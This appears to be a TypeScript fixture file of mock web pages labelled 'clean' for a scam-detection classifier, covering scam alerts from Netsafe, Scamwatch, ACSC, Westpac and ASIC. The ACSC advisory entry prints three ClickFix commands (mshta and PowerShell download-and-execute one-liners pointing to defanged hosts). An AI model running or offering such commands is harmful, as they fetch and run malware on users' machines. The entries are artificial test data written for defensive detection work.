import type { Entry } from '../entry.js';
import { shell, baseCss, mark, dataLayer, acknowledgement } from '../parts/xd-kit.js';

export const entries: Entry[] = [
{
  id: 'xd-clean-netsafe-hi-mum-advice',
  label: 'clean',
  kind: 'regulator-scam-alert',
  url: 'https://netsafe.org.nz/scams/hi-mum-whatsapp-scam-2025/',
  body: shell(
    '“Hi Mum” scams – what to look out for | Netsafe',
    `<header class="top" style="background:#4b2e83;color:#fff"><b style="font-size:20px">Netsafe</b><span style="margin-left:8px;font-size:13px">Online safety · Haumaru ipurangi</span></header>
<main style="max-width:820px">
 <h1>“Hi Mum” scams – what to look out for</h1>
 <p>In a “Hi Mum” or “Hi Dad” scam, someone pretends to be your child messaging from a new number. They build a story and then ask you to pay a bill urgently.</p>
 <h2>An example we've seen</h2>
 <div style="background:#e5ddd5;padding:12px;border-radius:8px;max-width:420px">
  <p style="background:#dcf8c6;padding:8px;border-radius:6px">Hi Mum, it's me 😊 I dropped my phone in the toilet, this is my new number</p>
  <p style="background:#dcf8c6;padding:8px;border-radius:6px">Can you pay 2 bills for me? My new phone isn't linked to my banking app yet. I'll pay you back tomorrow</p>
 </div>
 <h2>What to do</h2>
 <ul><li>Call your child on their old number, or ask a question only they would know.</li><li>Never pay a bill for someone you haven't spoken to on the phone.</li><li>If you've paid, contact your bank immediately and report it to Netsafe.</li></ul>
 <p>Kōrero mai — talk to us. Call <b>0508 638 723</b> or text <b>'Netsafe' to 4282</b>.</p>
 <a class="btn" style="background:#4b2e83" href="https://netsafe.org.nz/report">Make a report</a>
</main>`,
    { lang: 'en-NZ', css: baseCss('#4b2e83') + 'main{max-width:820px}' },
  ),
},
{
  id: 'xd-clean-scamwatch-chinese-police-alert',
  label: 'clean',
  kind: 'regulator-scam-alert',
  url: 'https://www.scamwatch.gov.au/zh-hans/alerts/chinese-authority-impersonation',
  body: shell(
    '冒充中国当局的诈骗 | Scamwatch',
    `<header class="top" style="background:#fff;border-bottom:4px solid #00698f">${mark.coatOfArms(40)}<div><b style="font-size:20px;color:#00698f">Scamwatch</b><br><span style="font-size:12px">国家反诈骗中心 National Anti-Scam Centre</span></div></header>
<main style="max-width:860px;font-family:'Microsoft YaHei',Arial">
 <h1>冒充中国当局的诈骗</h1>
 <p>骗子冒充中国大使馆、领事馆、公安机关或快递公司，声称您的护照或银行账户涉嫌洗钱等犯罪，并出示伪造的“通缉令”。</p>
 <h2>常见说法</h2>
 <blockquote style="background:#f3f7f9;border-left:4px solid #00698f;padding:12px">“您名下的中国银行账户被用于洗钱，您已被列为A级通缉对象。本案涉及国家机密，不得告知任何人。请将资金转入国家安全账户接受审查。”</blockquote>
 <p>真正的中国当局<b>不会</b>通过电话要求您转账到“安全账户”，也不会要求您保密、不告诉家人或学校。</p>
 <h2>如何保护自己</h2>
 <ul><li>立即挂断电话，不要点击对方发送的链接。</li><li>不要透露护照号码、身份证号码或银行信息。</li><li>如已转账，请立即联系您的银行并向 Scamwatch 举报。</li></ul>
 <p><a href="https://www.scamwatch.gov.au/report-a-scam">举报诈骗 Report a scam</a> · <a href="/about-us/news-and-alerts">English</a></p>
</main>`,
    { lang: 'zh-Hans', css: baseCss('#fff', '#222', '#00698f') + 'main{max-width:860px}' },
  ),
},
{
  id: 'xd-clean-acsc-clickfix-advisory',
  label: 'clean',
  kind: 'security-advisory',
  url: 'https://www.cyber.gov.au/about-us/view-all-content/alerts-and-advisories/fake-captcha-clickfix-campaigns-targeting-australian-organisations',
  body: shell(
    'Fake CAPTCHA (ClickFix) campaigns targeting Australian organisations | Cyber.gov.au',
    `<header class="top" style="background:#0b2a4a;color:#fff"><b>Australian Signals Directorate · Australian Cyber Security Centre</b></header>
<main style="max-width:900px">
 <h1>Fake CAPTCHA (ClickFix) campaigns targeting Australian organisations</h1>
 <p><b>Alert status:</b> HIGH · <b>Audience:</b> Organisations and individuals</p>
 <p>ASD's ACSC is aware of ongoing campaigns that compromise legitimate Australian websites — particularly WordPress sites of real estate agencies, tourism operators and local businesses — and inject a fake “Verify you are human” prompt. Visitors are instructed to press <kbd>Win</kbd>+<kbd>R</kbd>, paste a command that the page has silently copied to their clipboard, and press Enter.</p>
 <h2>Example commands observed</h2>
 <pre style="background:#f4f4f4;padding:12px;overflow:auto">mshta hxxps://cf-verify.check-human[.]top/v/captcha.hta # ✅ I am not a robot - Cloudflare Verification ID: 8814-2291

powershell -w h -c "iex(irm hxxps://mygov-verify.identity-check[.]online/id.ps1)" # myGov device verification

cmd /c start /min powershell -w 1 -ep bypass -c "iwr hxxps://admin-booking.reservation-id8831[.]com/cdn/g.ps1 -useb|iex"</pre>
 <p>The trailing comment after <code>#</code> is displayed in the Run dialog so the user sees only the reassuring text.</p>
 <h2>Mitigations</h2>
 <ul><li>Disable the Run dialog via Group Policy for standard users where practical (<i>User Configuration &gt; Administrative Templates &gt; Start Menu and Taskbar &gt; Remove Run menu from Start Menu</i>).</li><li>Apply application control to block <code>mshta.exe</code> and restrict PowerShell to Constrained Language Mode.</li><li>Educate users: no legitimate CAPTCHA asks you to run a command.</li><li>Hunt for <code>RunMRU</code> registry entries containing <code>powershell</code> or <code>mshta</code>.</li></ul>
 <h2>Indicators of compromise</h2>
 <table style="font-size:13px;border-collapse:collapse"><tr><th>Type</th><th>Value</th></tr><tr><td>Domain</td><td>cf-verify.check-human[.]top</td></tr><tr><td>Domain</td><td>mygov-verify.identity-check[.]online</td></tr><tr><td>SHA256</td><td>3f1c9a7e0b2d4c6e8f0a1b3c5d7e9f1a2b4c6d8e0f1a3b5c7d9e1f2a4b6c8d0e</td></tr></table>
</main>
<footer>Report a cyber security incident: 1300 CYBER1 (1300 292 371)</footer>`,
    { css: baseCss('#0b2a4a') + 'main{max-width:900px}td,th{border:1px solid #ccc;padding:4px 8px}' },
  ),
},
{
  id: 'xd-clean-westpac-remote-access-blog',
  label: 'clean',
  kind: 'bank-security-blog',
  url: 'https://www.westpac.com.au/security/latest-scams/remote-access-refund-scams/',
  body: shell(
    'Remote access and refund scams | Westpac',
    `<header class="top" style="background:#fff;border-bottom:4px solid #da1710">${mark.westpac(28)}<a class="btn" style="margin-left:auto;background:#da1710;padding:8px 14px" href="https://banking.westpac.com.au/wbc/banking/handler?TAM_OP=login&amp;segment=personal">Sign in</a></header>
<main style="max-width:820px">
 <h1 style="font-weight:400">Remote access and refund scams</h1>
 <p>Scammers call or text pretending to be from your internet provider, nbn™, Microsoft or even Westpac, saying you're owed a refund or your computer is infected.</p>
 <h2>How the scam works</h2>
 <ol>
  <li>You're told you're owed a refund, e.g. “$349 outage compensation”.</li>
  <li>They ask you to download software such as AnyDesk, TeamViewer or QuickSupport and read them the 9-digit ID.</li>
  <li>They ask you to sign in to Online Banking “to receive the refund”, then black out your screen and move money out.</li>
  <li>They claim they've refunded too much and ask you to send the difference back, often by gift card or crypto.</li>
 </ol>
 <p><b>We'll never ask you to download remote access software or to move money to a “safe account”.</b></p>
 <p>If you think you've been scammed, call us immediately on <b>1300 655 505</b> (24/7).</p>
 <p><a href="https://www.westpac.com.au/security/">More security tips</a></p>
</main>
<footer>© Westpac Banking Corporation ABN 33 007 457 141</footer>
${dataLayer('G-WBC7Q1X2Z3')}`,
    { css: baseCss('#fff', '#1f1c4f', '#da1710') + 'main{max-width:820px}' },
  ),
},
{
  id: 'xd-clean-moneysmart-fake-bonds-list',
  label: 'clean',
  kind: 'regulator-investor-alert',
  url: 'https://moneysmart.gov.au/check-and-report-scams/investor-alert-list?sort=recent&page=3',
  body: shell(
    'Investor alert list | Moneysmart.gov.au',
    `<header class="top" style="background:#fff;border-bottom:4px solid #0063a6">${mark.coatOfArms(40)}<div><b style="font-size:20px;color:#0063a6">Moneysmart</b><br><span style="font-size:12px">by ASIC</span></div></header>
<main style="max-width:900px">
 <h1>Investor alert list</h1>
 <p>This list contains businesses and websites that ASIC believes you should not deal with. Some may be impersonating legitimate, licensed firms — always check the AFS licence number on <a href="https://connectonline.asic.gov.au/">ASIC Connect's Professional Register</a> and call the firm on the number listed there.</p>
 <table style="width:100%;border-collapse:collapse;font-size:14px">
  <tr><th>Name</th><th>Website</th><th>Notes</th></tr>
  <tr><td>BestRates Term Deposits</td><td>bestrates-termdeposit.au-invest[.]co</td><td>Fake term deposit comparison; claims “government guaranteed” rates of 7%+ with big four banks</td></tr>
  <tr><td>Macquarie Fixed Income (clone)</td><td>macquarie-fixedincome.bonds-au[.]org</td><td>Impersonates Macquarie; quotes a real AFSL number</td></tr>
  <tr><td>Quantum AI</td><td>quantum-ai-au[.]trade</td><td>Crypto trading platform promoted with fake celebrity endorsements</td></tr>
  <tr><td>Crypto Recovery Australia</td><td>cryptorecovery-australia[.]com</td><td>Recovery scam charging upfront fees in USDT</td></tr>
 </table>
 <h2>Warning signs of investment scams</h2>
 <ul><li>Returns that seem too good to be true, “guaranteed” or “no risk”.</li><li>Pressure to act quickly.</li><li>Payment to an account that's not in the name of the bank or fund.</li></ul>
</main>
<footer>${acknowledgement('ASIC')}</footer>`,
    { css: baseCss('#fff', '#222', '#0063a6') + 'main{max-width:900px}td,th{border-bottom:1px solid #ddd;padding:8px;text-align:left}' },
  ),
},
];
